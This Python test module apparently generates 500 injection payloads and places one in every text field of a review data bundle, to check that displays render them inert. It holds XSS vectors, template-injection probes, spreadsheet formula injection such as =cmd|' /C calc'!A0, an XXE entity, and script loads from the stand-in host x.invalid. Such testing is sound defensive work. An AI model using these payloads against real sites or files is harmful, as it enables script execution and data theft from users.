"""Five hundred hostile texts, and a review with one of them in every text field of every kind.

Each tries to run, to ask a server for something, or to look like what it is not. What would run
sets ``window.__ran`` or opens a dialog; what would ask asks ``x.invalid``. Whatever shows a
reviewer's text must show these as the text that they are.
"""

from __future__ import annotations

import json
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

from pydantic import StringConstraints

from graph.model import (
    KINDS,
    FindingKind,
    Grade,
    Link,
    MergedBy,
    Part,
    Polarity,
    Record,
    ReviewBundle,
    Role,
    SourceKind,
    Stance,
    Status,
    StepKind,
    TheoryKind,
    Verdict,
)

RUN = "window.__ran=1"
REVIEW = "hostile"

_BEFORE = (
    "",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "-->",
    "\"'>",
    "]]>",
    "</td></table>",
)
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    "<script src=https://x.invalid/a.js></script>",
    f"<<script>{RUN}//<</script>",
    f"<!--<script>{RUN}",
)
_TAGS = (
    "<img src=x {}>",
    "<svg {}></svg>",
    "<body {}>",
    "<input autofocus {}>",
    "<details open {}>x</details>",
    "<video {}><source src=x></video>",
    "<iframe {}></iframe>",
    "<marquee {}>x</marquee>",
    "<a href=# {}>x</a>",
    '" {} x="',
    "' {} x='",
)
_EVENTS = (
    "onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onpageshow",
    "onanimationstart", "onpointerenter", "onstart",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "javascript://x.invalid/%0a{}", "javascript:void({})", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>",
    "view-source:javascript:{}", "blob:{}", "feed:javascript:{}", "\u200bjavascript:{}",
)  # fmt: skip
_LINKS = (
    "{}", "<a href='{}'>x</a>", "<a href={}>x</a>", "[x]({})", "![x]({})", "<iframe src='{}'>",
    "<form action='{}'><button>x</button></form>", "<object data='{}'></object>",
    "<embed src='{}'>", "<base href='{}'>", "<meta http-equiv=refresh content='0;url={}'>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% print({}) %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "<?php {} ?>",
    "{{{{constructor.constructor('{}')()}}}}", "`${{{}}}`", "[[{}]]", "@({})", "{{!{}!}}",
    "{{{{''.__class__.__mro__}}}} {}", "{{{{ config }}}} {}", "%({})s", "{{0.__class__}} {}",
)  # fmt: skip
_DRAWINGS = (
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{} />",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><style><img src=x onerror={}></style>",
    "<svg><title><img src=x onerror={}></title>",
    "<svg><image href=https://x.invalid/p.png onload={} />",
    "<svg><handler type=text/ecmascript>{}</handler></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href=javascript:{}>x</math>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
)
_ENDS = (
    '";{}//', "';{}//", "\\\";{}//", "\\';{}//", "*/{}/*", "\u2028{}\u2029", "\\u003cscript>{}",
    "\\x3cscript\\x3e{}", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}",
    "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}", "]}};{}//", "}}</style><b>{}",
    "<style>*{{background:url(https://x.invalid/{})}}</style>", "<style>@import '//x.invalid/{}';",
    "<b style='width:expression({})'>x</b>", "<link rel=stylesheet href=//x.invalid/{}>",
    "<img src=//x.invalid/p?{}>", "<img srcset=//x.invalid/q?{}>", "<template>{}</template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>{}", "<xmp>{}",
    "<isindex action=javascript:{}>", "<textarea autofocus onfocus={}>", "<!DOCTYPE x [{}]>",
    "<?xml version='1.0'?><x>{}</x>", "<!ENTITY x SYSTEM 'https://x.invalid/{}'>",
    "=HYPERLINK(\"https://x.invalid/{}\")", "=cmd|' /C calc'!A0 {}", "+1+{}", "-1-{}", "@SUM({})",
)  # fmt: skip
_UNSEEN = (
    "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f",
    "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f",
    "\u3164", "\ufff9", "\U000e0041", "\u0301" * 20,
)  # fmt: skip
_WORDS = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "-0.0",
)


def _payloads() -> list[str]:
    families = [
        [before + script for script in _SCRIPTS for before in _BEFORE],
        [tag.format(f"{event}={RUN}") for event in _EVENTS for tag in _TAGS],
        [link.format(scheme.format(RUN)) for scheme in _SCHEMES for link in _LINKS],
        [form.format(RUN) for form in (*_TEMPLATES, *_DRAWINGS, *_ENDS)],
        [
            form.format(mark)
            for mark in _UNSEEN
            for form in ("a{}b", "{}txet", "a <b>{}</b>", f"<scr{{}}ipt>{RUN}</script>")
        ],
        list(_WORDS),
        [f"<img src=x onerror=alert({number})>" for number in range(500)],
    ]
    found = dict.fromkeys(payload for family in families for payload in family)
    return list(found)[:500]


PAYLOADS: list[str] = _payloads()
"""Five hundred different texts, none longer than a name may be."""


def hostile(payload: str, review: str = REVIEW) -> ReviewBundle:
    """A valid review with ``payload`` in every text field of every kind.

    Its records are linked, so that every answer and every page has something to show: the
    mechanism ``m``, the configuration ``cfg`` with the concepts ``context``, ``resource``,
    ``reasoning`` and ``outcome``, one source and one piece of evidence for each of the five kinds
    of source, a finding, a theory, and one record of each other kind. A DOI and a web address
    hold it too: the address as it is, the DOI without white space.
    """

    def of(local: str) -> str:
        return f"{review}:{local}"

    doi = "10.1234/" + "".join(payload.split())
    words = json.dumps({"TI": [payload]})
    kinds = list(SourceKind)
    targets = [
        {"mechanism": of("m")},
        {"configuration": of("cfg")},
        {"concept": of("context"), "role": Role.CONTEXT},
        {"theory": of("theory")},
        {"mechanism": of("m")},
    ]
    stances = list(Stance)
    grades = list(Grade)
    whole: dict[str, list[dict[str, Any]]] = {
        "Level": [{"id": of("level")}],
        "Perspective": [{"id": of("perspective")}],
        "Stage": [{"id": of("stage"), "position": 0}],
        "Step": [
            {"id": of("step"), "stage": of("stage"), "position": 0, "kind": StepKind.ENTRANCE}
            | {"track": "main", "n": 1}
        ],
        "Tally": [{"id": of("tally"), "position": 0, "n": 1, "parts": [1], "of": of("context")}],
        "Reporting": [{"id": of("said"), "item": 19, "position": 0}],
        "Source": [
            {"id": of(f"s-{kind}"), "kind": kind, "doi": doi, "year": 2020, "stage": of("stage")}
            | {"entrance": of("step")}
            for kind in kinds
        ],
        "Mechanism": [
            {"id": of("m"), "number": 1},
            {"id": of("gone"), "number": 2},
        ],
        "HistoryEntry": [
            {"id": of("h0"), "mechanism": of("m"), "position": 0, "status": Status.NEW}
            | {"stage": of("stage")},
            {"id": of("h1"), "mechanism": of("gone"), "position": 0, "into": [of("m")]}
            | {"status": Status.INCORPORATED},
        ],
        "Concept": [{"id": of(role)} for role in Role],
        "Configuration": [
            {"id": of("cfg"), "mechanisms": [of("m")], "polarity": Polarity.POSITIVE}
            | {f"{role}s": [Part(concept=of(role))] for role in Role}
        ],
        "Theory": [
            {"id": of("theory"), "kind": TheoryKind.PROGRAMME, "mechanisms": [of("m")]}
            | {"configurations": [of("cfg")], "concepts": [of("context")]}
        ],
        "Code": [{"id": of("code")}],
        "Passage": [
            {"id": of("passage"), "source": of("s-paper"), "code": of("code"), "span": "0-5"}
        ],
        "Evidence": [
            {"id": of(f"e{n}"), "source": of(f"s-{kind}"), "stance": stances[n % len(stances)]}
            | {"contexts": [of("context")], "rigour": grades[n % len(grades)]}
            | targets[n]
            for n, kind in enumerate(kinds)
        ],
        "Appraisal": [{"id": of("a"), "evidence": of("e0"), "rigour": Grade.LOW}],
        "Finding": [
            {"id": of("f"), "kind": FindingKind.FINDING, "mechanisms": [of("m")]}
            | {"said_by": [of("s-paper")], "searched": of("stage")}
        ],
        "SameAs": [{"id": of("same"), "mechanism": of("m"), "same_as": "elsewhere:m"}],
        "Reference": [
            {"id": of("ref"), "source": of("s-paper"), "merged_by": MergedBy.DOI}
            | {"fields": words, "reads_as": None}
        ],
        "Merge": [
            {"id": of("merge"), "one": of("s-paper"), "other": of("s-grey"), "moved": []}
            | {"verdict": Verdict.DIFFERENT}
        ],
        "Silence": [{"id": of("silence"), "rule": "near-duplicates", "record": of("m")}],
    }
    held = {kind.label: kind for kind in KINDS}
    fields = {
        kind.label: name
        for name, field in ReviewBundle.model_fields.items()
        for kind in KINDS
        if get_args(field.annotation) == (kind,)
    }
    return ReviewBundle(
        review=held["Review"].model_validate(
            {"id": review, "doi": doi, "year": 2020}
            | _texts(held["Review"], payload, {"id", "doi"})
        ),
        **{
            fields[label]: [
                held[label].model_validate(_texts(held[label], payload, set(given)) | given)
                for given in records
            ]
            for label, records in whole.items()
        },
    )


def _texts(kind: type[Record], payload: str, given: set[str]) -> dict[str, Any]:
    """The payload for each field of a kind that may hold any text."""
    texts: dict[str, Any] = {}
    for name, field in kind.model_fields.items():
        if name in given or any(isinstance(mark, Link) for mark in field.metadata):
            continue
        shape = _shape(field.annotation, field.metadata)
        if shape is not None:
            texts[name] = [payload] if shape is list else payload
    return texts


def _shape(annotation: Any, metadata: Any = ()) -> type | None:
    """``str`` or ``list`` if any text, or a list of any texts, is allowed; else None."""
    if any(isinstance(mark, StringConstraints) and mark.pattern for mark in metadata):
        return None
    origin = get_origin(annotation)
    if annotation is str:
        return str
    if origin is Annotated:
        inner, *marks = get_args(annotation)
        return None if any(isinstance(mark, Link) for mark in marks) else _shape(inner, marks)
    if origin is list:
        return list if _shape(get_args(annotation)[0]) is str else None
    if origin in (Union, UnionType):
        found = [_shape(each) for each in get_args(annotation) if each is not type(None)]
        return found[0] if len(found) == 1 else None
    return None
